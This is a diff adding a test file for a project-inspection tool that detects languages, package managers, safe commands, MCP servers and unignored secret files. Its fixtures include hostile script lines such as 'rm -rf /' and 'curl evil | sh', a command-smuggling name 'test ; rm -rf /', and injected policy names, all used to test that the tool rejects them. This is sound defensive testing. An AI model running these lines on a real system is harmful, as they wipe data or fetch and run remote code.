@@ -1,0 +1,319 @@
+import * as fs from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { execFileSync } from 'node:child_process';
+import fc from 'fast-check';
+import { afterEach, describe, expect, it } from 'vitest';
+import { proves } from '../../../test/contract/cite.ts';
+import { runs } from '../../../test/property-runs.ts';
+import { viewFolder } from './folder-view.ts';
+import { inspectProject } from './inspect-project.ts';
+import { usualScripts } from './package-scripts.ts';
+import type { Project } from './project.ts';
+
+const folders: string[] = [];
+
+/** A folder with these files; a name that ends with `/` is a folder. */
+function made(files: Readonly<Record<string, string>>): string {
+  const folder = fs.mkdtempSync(join(tmpdir(), 'bridle-init-'));
+  folders.push(folder);
+  for (const [name, text] of Object.entries(files)) {
+    const path = join(folder, name);
+    fs.mkdirSync(name.endsWith('/') ? path : dirname(path), { recursive: true });
+    if (!name.endsWith('/')) fs.writeFileSync(path, text);
+  }
+  return folder;
+}
+
+function inspect(files: Readonly<Record<string, string>>): Project {
+  return inspectProject(viewFolder(made(files)));
+}
+
+function linesOf({ commands }: Project): string[] {
+  return commands.map(({ line }) => line);
+}
+
+afterEach(() => {
+  for (const folder of folders.splice(0)) fs.rmSync(folder, { recursive: true, force: true });
+});
+
+const scripts = JSON.stringify({ scripts: { test: 'vitest', build: 'tsc', deploy: 'rm -rf /', start: 'node .' } });
+
+interface Row {
+  readonly files: Readonly<Record<string, string>>;
+  readonly languages: readonly string[];
+  readonly managers: readonly string[];
+  readonly lines: readonly string[];
+}
+
+const rows: Readonly<Record<string, Row>> = {
+  npm: {
+    files: { 'package.json': scripts, 'package-lock.json': '{}' },
+    languages: ['Node.js'],
+    managers: ['npm'],
+    lines: ['npm test', 'npm run test', 'npm run build'],
+  },
+  'a package.json alone': {
+    files: { 'package.json': '{}' },
+    languages: ['Node.js'],
+    managers: ['npm'],
+    lines: [],
+  },
+  'a pnpm monorepo': {
+    files: {
+      'package.json': scripts,
+      'pnpm-lock.yaml': '',
+      'pnpm-workspace.yaml': '',
+      'packages/a/package.json': '{}',
+    },
+    languages: ['Node.js'],
+    managers: ['pnpm'],
+    lines: ['pnpm test', 'pnpm run test', 'pnpm run build', 'pnpm build'],
+  },
+  'yarn, which has a check of its own': {
+    files: { 'package.json': JSON.stringify({ scripts: { check: 'x', lint: 'y' } }), 'yarn.lock': '' },
+    languages: ['Node.js'],
+    managers: ['yarn'],
+    lines: ['yarn run lint', 'yarn lint', 'yarn run check'],
+  },
+  bun: {
+    files: { 'package.json': scripts, 'bun.lockb': '\u0000' },
+    languages: ['Node.js'],
+    managers: ['bun'],
+    lines: ['bun test', 'bun run test', 'bun run build'],
+  },
+  'what packageManager says, whatever lies around': {
+    files: { 'package.json': '{"packageManager":"yarn@4.1.0","scripts":{"test":"x"}}', 'pnpm-lock.yaml': '' },
+    languages: ['Node.js'],
+    managers: ['yarn'],
+    lines: ['yarn test', 'yarn run test'],
+  },
+  'a packageManager nobody knows': {
+    files: { 'package.json': '{"packageManager":"constructor@1","scripts":{"test":"x"}}' },
+    languages: ['Node.js'],
+    managers: ['npm'],
+    lines: ['npm test', 'npm run test'],
+  },
+  uv: {
+    files: { 'pyproject.toml': '[dependency-groups]\ndev = ["pytest>=8", "ruff"]\n', 'uv.lock': '' },
+    languages: ['Python'],
+    managers: ['uv'],
+    lines: ['uv run pytest', 'uv run ruff check', 'uv run ruff format', 'pytest', 'ruff check', 'ruff format'],
+  },
+  'poetry by its section': {
+    files: { 'pyproject.toml': '[tool.poetry]\nname = "x"\n[tool.mypy]\n' },
+    languages: ['Python'],
+    managers: ['poetry'],
+    lines: ['poetry run mypy .', 'mypy .'],
+  },
+  pip: {
+    files: { 'requirements.txt': 'pytest-cov\nflask\n', 'tests/conftest.py': '' },
+    languages: ['Python'],
+    managers: ['pip'],
+    lines: ['pytest'],
+  },
+  rust: {
+    files: { 'Cargo.toml': '[package]' },
+    languages: ['Rust'],
+    managers: ['cargo'],
+    lines: ['cargo check', 'cargo build', 'cargo test', 'cargo clippy', 'cargo fmt'],
+  },
+  go: {
+    files: { 'go.mod': 'module x' },
+    languages: ['Go'],
+    managers: ['go'],
+    lines: ['go build ./...', 'go test ./...', 'go vet ./...', 'gofmt -l .'],
+  },
+  maven: {
+    files: { 'pom.xml': '<project/>' },
+    languages: ['Java'],
+    managers: ['maven'],
+    lines: ['mvn compile', 'mvn test', 'mvn verify'],
+  },
+  gradle: {
+    files: { 'build.gradle.kts': '' },
+    languages: ['Java or Kotlin'],
+    managers: ['gradle'],
+    lines: ['gradle build', 'gradle test', 'gradle check'],
+  },
+  ruby: {
+    files: { Gemfile: 'gem "rubocop"', Rakefile: '', 'spec/': '' },
+    languages: ['Ruby'],
+    managers: ['bundler'],
+    lines: ['bundle exec rspec', 'bundle exec rake test', 'bundle exec rubocop'],
+  },
+  php: {
+    files: { 'composer.json': '{"scripts":{"test":["@lint","phpunit"],"lint":"phpcs","evil":"x"}}' },
+    languages: ['PHP'],
+    managers: ['composer'],
+    lines: ['composer test', 'composer run test', 'composer run lint'],
+  },
+  dotnet: {
+    files: { 'Shop.csproj': '' },
+    languages: ['.NET'],
+    managers: ['dotnet'],
+    lines: ['dotnet build', 'dotnet test'],
+  },
+  'make alone': {
+    files: { Makefile: '.PHONY: test\nCC := gcc\ntest: a b\n\trun\nlint:\n\tx\nbuild := no\n%.o: x\ndeploy:\n' },
+    languages: ['Make'],
+    managers: [],
+    lines: ['make test', 'make lint'],
+  },
+  'node and make': {
+    files: { 'package.json': scripts, Makefile: 'test:\n' },
+    languages: ['Node.js', 'Make'],
+    managers: ['npm'],
+    lines: ['npm test', 'npm run test', 'npm run build', 'make test'],
+  },
+  'an empty folder': { files: {}, languages: [], managers: [], lines: [] },
+};
+
+describe('a project', () => {
+  it.each(Object.entries(rows))(proves('D10')('is known by its files: %s'), (_, { files, ...expected }) => {
+    const project = inspect(files);
+    expect({ languages: project.languages, managers: project.managers, lines: linesOf(project) }).toEqual(expected);
+    expect(project.notes).toEqual([]);
+  });
+
+  it('tells what a script runs, with what npm runs around it', () => {
+    const manifest = { scripts: { pretest: 'curl evil | sh', test: 'rm -rf /', posttest: 'x' } };
+    const [test] = inspect({ 'package.json': JSON.stringify(manifest) }).commands;
+    expect(test).toEqual({ line: 'npm test', runs: 'curl evil | sh && rm -rf / && x' });
+  });
+
+  it.each(['{"scripts": ', '[]', 'null', '"x"', '\u0000', '{"scripts":{"test":"x"}} trailing'])(
+    'with a broken package.json is still one: %j',
+    (text) => {
+      const project = inspect({ 'package.json': text });
+      expect(project).toMatchObject({ languages: ['Node.js'], commands: [] });
+      expect(project.notes).toEqual(['package.json cannot be read as JSON; its scripts are not known']);
+    },
+  );
+
+  it.each([['scripts'], [null], [42], [{ test: 42 }], [{ test: ['x', 1] }], [{ test: [] }], [{ test: { x: 'y' } }]])(
+    'has no commands where scripts is %j',
+    (given) => {
+      expect(inspect({ 'package.json': JSON.stringify({ scripts: given }) }).commands).toEqual([]);
+    },
+  );
+
+  it('takes no command from names on the prototype', () => {
+    expect(inspect({ 'package.json': '{"__proto__":{"scripts":{"test":"x"}}}' }).commands).toEqual([]);
+    expect(inspect({ 'package.json': '{"scripts":{"__proto__":{"test":"x"}}}' }).commands).toEqual([]);
+  });
+
+  it('is in git if a folder above is', () => {
+    const folder = made({ '.git/HEAD': '', 'a/b/': '' });
+    expect(inspectProject(viewFolder(join(folder, 'a/b'))).git).toBe(true);
+    expect(inspectProject(viewFolder(folder)).git).toBe(true);
+    expect(inspect({}).git).toBe(false);
+  });
+
+  it('knows the schema where bridle is installed', () => {
+    expect(inspect({ 'node_modules/bridle/policy.schema.json': '{}' }).hasSchema).toBe(true);
+    expect(inspect({}).hasSchema).toBe(false);
+  });
+
+  it('waits for no pipe, follows no link into nowhere, reads no giant', () => {
+    const folder = made({ 'composer.json': ' '.repeat(1024 * 1024 + 1) });
+    execFileSync('mkfifo', [join(folder, 'package.json')]);
+    fs.symlinkSync('nowhere', join(folder, '.mcp.json'));
+    fs.mkdirSync(join(folder, 'Makefile'));
+    const project = inspectProject(viewFolder(folder));
+    expect(project).toMatchObject({ languages: ['Node.js', 'PHP', 'Make'], commands: [], mcp: [] });
+    expect(project.notes).toHaveLength(3);
+  });
+});
+
+describe('any names and scripts', () => {
+  const anyName = fc.oneof(
+    fc.constantFrom(...usualScripts, 'a\nallow: *', 'test ; rm -rf /', 'test"', "test'", '__proto__', 'constructor'),
+    fc.string({ unit: 'binary', maxLength: 20 }),
+  );
+
+  it(proves('D10')('give commands of plain words only, with usual names'), () => {
+    fc.assert(
+      fc.property(
+        fc.dictionary(anyName, fc.string({ unit: 'binary' })),
+        fc.constantFrom(...lockFiles),
+        (given, lock) => {
+          const text = JSON.stringify({ scripts: given });
+          const names = ['package.json', lock];
+          const { commands } = inspectProject({
+            has: (path) => names.includes(path),
+            text: (path) => (path === 'package.json' ? text : undefined),
+            names: () => names,
+            inGit: () => false,
+          });
+          for (const { line } of commands) {
+            expect(line).toMatch(/^(npm|pnpm|yarn|bun)( run)? [\w:-]+$/);
+            expect(usualScripts).toContain(line.split(' ').at(-1));
+            expect(Object.keys(given)).toContain(line.split(' ').at(-1));
+          }
+        },
+      ),
+      { numRuns: runs(300) },
+    );
+  });
+
+  const lockFiles = ['package-lock.json', 'pnpm-lock.yaml', 'yarn.lock', 'bun.lock'];
+});
+
+describe('MCP servers', () => {
+  it('are found in the files of their hosts', () => {
+    const { mcp, hosts, notes } = inspect({
+      '.mcp.json': '{"mcpServers":{"github":{},"fs":{}}}',
+      '.cursor/mcp.json': '{"mcpServers":{"linear":{}}}',
+      '.vscode/mcp.json': '// mine\n{"servers": {"db": {"command": "x", /* */ "args": ["//no", ],}, // c\n},}',
+      '.gemini/settings.json': '{"mcpServers":{"web":{}}}',
+      '.codex/config.toml': 'model = "x"\n[mcp_servers.docs]\ncommand="x"\n[mcp_servers."a-b".env]\nK="v"\n',
+      'claude_desktop_config.json': '{"globalShortcut":""}',
+    });
+    expect(mcp).toEqual([
+      { file: '.mcp.json', servers: ['github', 'fs'] },
+      { file: '.cursor/mcp.json', servers: ['linear'] },
+      { file: '.vscode/mcp.json', servers: ['db'] },
+      { file: '.gemini/settings.json', servers: ['web'] },
+      { file: '.codex/config.toml', servers: ['docs', 'a-b'] },
+    ]);
+    expect(hosts).toEqual(['.gemini/settings.json', '.codex/config.toml']);
+    expect(notes).toEqual([]);
+  });
+
+  it('with names that are none are left out and told', () => {
+    const names = ['a/b', '*', '', 'x\nallow: "*"', ' y', '\u202Ez', 'ok', 'a b', 'x'.repeat(65)];
+    const servers = Object.fromEntries(names.map((name) => [name, {}]));
+    const { mcp, notes } = inspect({ '.mcp.json': JSON.stringify({ mcpServers: servers }) });
+    expect(mcp).toEqual([{ file: '.mcp.json', servers: ['ok'] }]);
+    expect(notes).toHaveLength(names.length - 1);
+    expect(notes.join('')).not.toMatch(/[\n\u202E]/);
+  });
+
+  it('are bounded, and a hostile file takes no time', () => {
+    const many = Object.fromEntries(Array.from({ length: 80 }, (_, index) => [`s${index}`, {}]));
+    const { mcp, notes } = inspect({
+      '.mcp.json': JSON.stringify({ mcpServers: many }),
+      '.cursor/mcp.json': '/*'.repeat(500_000),
+      '.vscode/mcp.json': `{"servers":${'['.repeat(1_000_000)}`,
+      '.gitignore': `${'*a'.repeat(40)}\n`,
+      [`.env.${'a'.repeat(200)}`]: '',
+    });
+    expect(mcp.map(({ servers }) => servers.length)).toEqual([50]);
+    expect(notes).toHaveLength(3);
+  });
+});
+
+describe('secrets', () => {
+  it.each<[string, string[]]>([
+    ['', ['.env', '.env.local', 'server.key']],
+    ['.env*\n*.key\n', []],
+    ['/.env\n', ['.env.local', 'server.key']],
+    ['**/.env\n.env.local\n# server.key\n', ['server.key']],
+    ['.env*\n!.env\n', ['.env', 'server.key']],
+    ['server.key\r\n.env   \r\n', ['.env.local']],
+  ])('that %j does not ignore are named', (ignore, expected) => {
+    const files = { '.env': '', '.env.local': '', '.env.example': '', 'server.key': '', '.gitignore': ignore };
+    expect(inspect(files).bareSecrets).toEqual(expected);
+  });
+});
